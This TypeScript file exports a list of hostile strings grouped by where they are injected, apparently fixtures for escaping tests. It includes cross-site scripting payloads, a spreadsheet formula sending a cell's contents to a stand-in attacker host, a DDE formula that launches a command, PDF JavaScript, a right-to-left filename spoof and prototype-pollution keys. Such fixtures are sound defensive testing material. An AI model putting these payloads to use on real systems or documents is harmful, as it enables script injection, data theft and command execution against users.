/** What strangers type to make a program say or do something else, by what it is aimed at. */
export const hostileTexts = {
  html: '<img src=x onerror=alert(1)><script>alert(1)</script>',
  attribute: '" onmouseover="alert(1)" x=\'',
  address: 'javascript:alert(1) data:text/html,<script>alert(1)</script>',
  markdown: '[click](javascript:alert(1)) ![x](http://evil.example/t.png) <http://evil.example>\n# Heading\n---',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  quotes: '","=1+1","',
  pdf: ') Tj ET endstream endobj 99 0 obj << /S /JavaScript /JS (app.alert(1)) >> %PDF-1.4 \\ (',
  backslash: 'ends with \\',
  direction: 'invoice\u202efdp.exe \u2066isolated',
  zalgo: `Z${'\u0301'.repeat(300)}algo`,
  nul: 'a\u0000b\u001b[31mc\u0007',
  half: 'half \ud800 and \udc00 halves',
  prototype: '__proto__',
  constructor: 'constructor',
  template: '{{name}} #{7*7} $t(common.close)',
} as const

export type HostileText = keyof typeof hostileTexts
